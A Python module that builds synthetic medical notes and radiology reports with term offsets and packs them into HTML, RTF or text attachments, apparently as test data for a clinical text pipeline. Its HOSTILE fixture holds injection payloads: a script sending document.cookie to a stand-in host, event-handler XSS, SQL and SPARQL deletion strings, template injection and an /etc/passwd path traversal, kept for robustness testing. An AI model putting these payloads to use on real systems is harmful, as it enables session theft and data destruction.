"""The texts of the made notes, and where in them each term stands; and how a text is put into an attachment."""

from __future__ import annotations

import base64
import html
import re
from dataclasses import dataclass, field
from typing import Any

from medicine import CONDITIONS, TERMS

MENTION = re.compile(r"\{(-?)([a-z0-9 ]+)\}")

HOSTILE = """PROGRESS NOTE

CHIEF COMPLAINT
<script>document.title="broken"; fetch("https://elsewhere.example/?"+document.cookie)</script>
<img src=x onerror="document.title='broken'"> <b onmouseover=alert(1)>bold</b> &lt;i&gt; &amp;amp; </script><!--

HISTORY OF PRESENT ILLNESS
Said "it's {{7*7}} ${{7*7}} of \\"quotes\\"'; DROP TABLE documents; -- and walked away with {cough}.
SPARQL: " } DELETE WHERE { ?s ?p ?o } # ' <http://x.example/> . INSERT DATA { <a:a> <a:b> "c" }
Right to left: \u05e9\u05dc\u05d5\u05dd \u202ereversed \u202c end.
Zero width:\u200b\u200d. Null-like: \\0 \\x00 %00. Path ../../etc/passwd
SYSTEM_GENERATED </title></textarea></style>]]> javascript:alert(1) data:text/html,<script>1</script>

ASSESSMENT AND PLAN
1. {hypertension}, unchanged. {lisinopril} 10 mg daily. Denies {-chest pain}.
"""
"""What a page, a database and a graph have to show and keep as it is."""


@dataclass(frozen=True)
class Mention:
    """A term in a text: from the character `begin` up to `end`."""

    key: str
    text: str
    begin: int
    end: int
    negated: bool


@dataclass
class Writing:
    """A text that grows, and the mentions in it. `turn` chooses among the names of a term."""

    turn: int = 0
    text: str = ""
    mentions: list[Mention] = field(default_factory=list)

    def say(self, sentence: str, end: str = "\n") -> None:
        """Add a sentence with its mentions; the first word is capitalised where it is a mention."""
        done = 0
        for found in MENTION.finditer(sentence):
            if found[2] not in TERMS:
                continue
            self.text += sentence[done : found.start()]
            done = found.end()
            names = TERMS[found[2]].names
            name = names[self.turn % len(names)]
            if self.text[-1:] in {"", "\n"} or self.text[-2:] in {". ", "- "}:
                name = name[0].upper() + name[1:]
            begin = len(self.text)
            self.text += name
            self.mentions.append(Mention(found[2], name, begin, len(self.text), bool(found[1])))
        self.text += sentence[done:] + end

    def head(self, title: str) -> None:
        """Begin a section."""
        self.text += ("\n" if self.text else "") + title + "\n"


DENIALS = (
    "Denies {-fever}, {-chest pain} or {-nausea}.",
    "No {-chest pain}. No {-palpitations}. Appetite is good.",
    "Negative for {-headache} and {-fever}; sleeps well.",
    "There is no {-edema}, and {-dyspnea} is denied.",
)
RELATIVES = (
    "Mother with {diabetes}.",
    "Father had a {infarction} at 61.",
    "A sister with {asthma}.",
    "Not known.",
)
EXAMS = (
    "Alert, in no distress. Heart regular, no murmur. Lungs clear on both sides.",
    "Well. Pulse regular. Abdomen soft. No {-edema}.",
    "Comfortable at rest. Scattered {wheezing} on expiration, no crackles.",
)
REMARKS = (
    "Ate crème brûlée at his daughter's wedding and feels fine 🙂.",
    "Lives alone on the third floor, walks the dog daily.",
    "Works at the café by the harbour; 37.2 °C at home.",
    "Back from three weeks in São Paulo.",
)


def note(kind: str, who: str, day: str, conditions: list[str], dice: Any, turn: int) -> Writing:
    """A progress note, or one of the longer kinds of a history, a consultation or a discharge."""
    text = Writing(turn)
    titles = {
        "progress": "PROGRESS NOTE",
        "history": "HISTORY AND PHYSICAL",
        "consult": "CONSULTATION",
        "discharge": "DISCHARGE SUMMARY",
    }
    text.say(f"{titles[kind]}\nName: {who}\nDate: {day}")
    text.head("REASON FOR ADMISSION" if kind == "discharge" else "CHIEF COMPLAINT")
    symptoms = [s for c in conditions for s in CONDITIONS[c].symptoms]
    text.say(
        f"{{{symptoms[turn % len(symptoms)]}}} for {2 + turn % 5} days." if symptoms else "Routine check."
    )
    text.head("HOSPITAL COURSE" if kind == "discharge" else "HISTORY OF PRESENT ILLNESS")
    for c in conditions:
        text.say(dice.pick(CONDITIONS[c].story))
    text.say(dice.pick(REMARKS))
    text.head("REVIEW OF SYSTEMS")
    text.say(DENIALS[turn % len(DENIALS)])
    if kind != "progress":
        text.head("PAST MEDICAL HISTORY")
        for c in conditions:
            text.say(f"- {{{c}}}")
        text.head("FAMILY HISTORY")
        text.say(dice.pick(RELATIVES))
    text.head("DISCHARGE MEDICATIONS" if kind == "discharge" else "MEDICATIONS")
    for m, dose in dict(pair for c in conditions for pair in CONDITIONS[c].medications).items():
        text.say(f"- {{{m}}} {dose}")
    text.head("PHYSICAL EXAM")
    text.say(dice.pick(EXAMS))
    text.head("ASSESSMENT AND PLAN")
    for n, c in enumerate(conditions, 1):
        text.say(f"{n}. {dice.pick(CONDITIONS[c].plan)}")
    return text


def film(day: str, condition: str | None, turn: int) -> Writing:
    """What a radiologist reports of a chest film."""
    text = Writing(turn)
    text.say(f"XR CHEST 2 VIEWS\nDate: {day}")
    text.head("INDICATION")
    text.say("{cough} and {dyspnea}.")
    text.head("FINDINGS")
    sees = CONDITIONS[condition].imaging if condition else ""
    text.say(sees or "Heart and mediastinum are normal. The lungs are clear.")
    text.say("No {-effusion}. No pneumothorax." if "effusion" not in sees else "No pneumothorax.")
    text.head("IMPRESSION")
    text.say(f"1. {{{condition}}}, as described." if sees else "1. No evidence of {-pneumonia}.")
    return text


def attachment(text: str, form: str, title: str, day: str) -> dict[str, Any]:
    """The text as plain, HTML, RTF or Latin-1, in an attachment."""
    kinds = {
        "plain": "text/plain; charset=utf-8",
        "html": "text/html; charset=utf-8",
        "rtf": "application/rtf",
        "latin1": "text/plain; charset=iso-8859-1",
    }
    if form == "html":
        parts = [f"<p>{html.escape(p).replace(chr(10), '<br>')}</p>" for p in text.strip().split("\n\n")]
        text = f"<html><head><title>{html.escape(title)}</title></head><body>{''.join(parts)}</body></html>"
    if form == "rtf":
        text = "{\\rtf1\\ansi\\deff0 " + "".join(map(_rtf, text)) + "}"
    content = text.encode("latin-1" if form == "latin1" else "utf-8")
    return {
        "contentType": kinds[form],
        "language": "en",
        "data": base64.b64encode(content).decode(),
        "title": title,
        "creation": day,
    }


def _rtf(letter: str) -> str:
    if letter == "\n":
        return "\\par "
    if letter in "{}\\":
        return f"\\{letter}"
    units = letter.encode("utf-16-le")
    if letter.isascii():
        return letter
    pairs = (int.from_bytes(units[n : n + 2], "little", signed=True) for n in range(0, len(units), 2))
    return "".join(f"\\u{unit}?" for unit in pairs)
